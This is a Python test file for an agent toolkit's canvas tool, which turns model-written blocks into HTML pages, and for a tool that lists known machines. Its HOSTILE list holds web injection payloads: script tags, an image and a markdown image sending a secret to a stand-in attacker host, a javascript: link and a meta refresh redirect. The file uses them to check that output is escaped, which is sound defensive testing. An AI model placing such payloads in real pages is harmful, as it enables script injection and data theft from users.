"""Pages for the user's eyes, and the list of machines."""

from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from tests.toolbox.conftest import Call
from toolwire.define.arguments import Checker
from toolwire.define.conformance import report
from toolwire.errors import ToolFailure
from toolwire.protocol.calls import Resource
from toolwire.toolbox.user.canvas import POLICY, Node, canvas_tool, nodes_tool

HOSTILE = [
    "<script>alert(1)</script>", "<img src=https://evil.example/x>", "![x](https://evil.example/?q=secret)",
    "</title><script>", "<style>@import 'https://evil.example'</style>", "<a href='javascript:x'>", "\x1b]8;;x\x07",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "\u202eevil",
]  # fmt: skip


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def tags(page: Path) -> Tags:
    reader = Tags()
    reader.feed(page.read_text(encoding="utf-8"))
    return reader


def test_canvas_and_nodes_conform(tmp_path: Path) -> None:
    assert [report(each) for each in (canvas_tool(tmp_path), nodes_tool())] == [[], []]


@pytest.mark.feature("F258")
def test_a_page_with_every_kind_of_block_is_there_for_the_user(call: Call, tmp_path: Path) -> None:
    blocks: list[Any] = [
        {"kind": "heading", "text": "Kinds"},
        {"kind": "text", "text": "Two & more"},
        {"kind": "code", "text": "if a < b: pour()"},
        {"kind": "list", "items": ["green", "black"]},
        {"kind": "table", "rows": [["Tea", "Minutes"], ["green", "2"]]},
    ]
    shown = call(canvas_tool(tmp_path / "canvas"), page="teas", title="Teas", blocks=blocks)

    page = tags(Path(shown.structured["path"]))
    assert [name for name, _ in page.found if name in {"h1", "h2", "p", "pre", "li", "th", "td"}] == [
        "h1", "h2", "p", "pre", "li", "li", "th", "th", "td", "td",
    ]  # fmt: skip
    assert "if a < b: pour()" in page.words
    assert shown.structured["pages"] == ["teas"]
    assert shown.content[1] == Resource("canvas:teas", "Teas", "text/html")


def test_a_page_is_replaced_and_removed(call: Call, tmp_path: Path) -> None:
    canvas = canvas_tool(tmp_path)
    call(canvas, title="One")
    second = call(canvas, title="Two")
    assert "Two" in Path(second.structured["path"]).read_text()
    assert call(canvas, action="remove").structured["pages"] == []
    with pytest.raises(ToolFailure, match="no page"):
        call(canvas, action="remove")


@pytest.mark.parametrize("text", HOSTILE)
def test_T46_nothing_that_a_model_writes_is_markup_or_loads_anything(call: Call, tmp_path: Path, text: str) -> None:
    """The control is the parser: put on a page as they are, most of these are tags."""
    blocks: list[Any] = [
        {"kind": kind, "text": text, "items": [text], "rows": [[text], [text]]}
        for kind in ("heading", "text", "code", "list", "table")
    ]
    shown = call(canvas_tool(tmp_path), title=text, blocks=blocks)

    page = tags(Path(shown.structured["path"]))
    assert {name for name, _ in page.found} <= set(
        "html head meta title style body h1 h2 p pre code ul li table tr th td".split()
    )
    assert not any({"src", "href", "style", "onerror"} & attributes.keys() for _, attributes in page.found)
    policies = [attributes.get("content") for _, attributes in page.found if attributes.get("http-equiv")]
    assert policies == [POLICY]
    assert POLICY.startswith("default-src 'none'")


@pytest.mark.parametrize("page", ["../x", "a/b", "", "A", ".hidden", "x" * 41, "a\n"])
def test_a_page_has_a_plain_name(tmp_path: Path, page: str) -> None:
    assert Checker(canvas_tool(tmp_path)).check({"page": page}).faults


def test_a_page_that_is_too_large_is_refused(call: Call, tmp_path: Path) -> None:
    with pytest.raises(ToolFailure, match="are the most"):
        call(canvas_tool(tmp_path), blocks=[{"kind": "text", "text": "x" * 50_000}] * 11)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.feature("F258")
async def test_nodes_lists_known_machines_or_says_that_there_are_none(call: Call) -> None:
    async def known() -> list[Node]:
        return [{"name": "kitchen", "state": "online", "tools": ["kettle"]}]

    assert (await call(nodes_tool(known)))["nodes"][0]["name"] == "kitchen"
    none = await call(nodes_tool())
    assert (none["nodes"], none["note"].startswith("no other machines")) == ([], True)
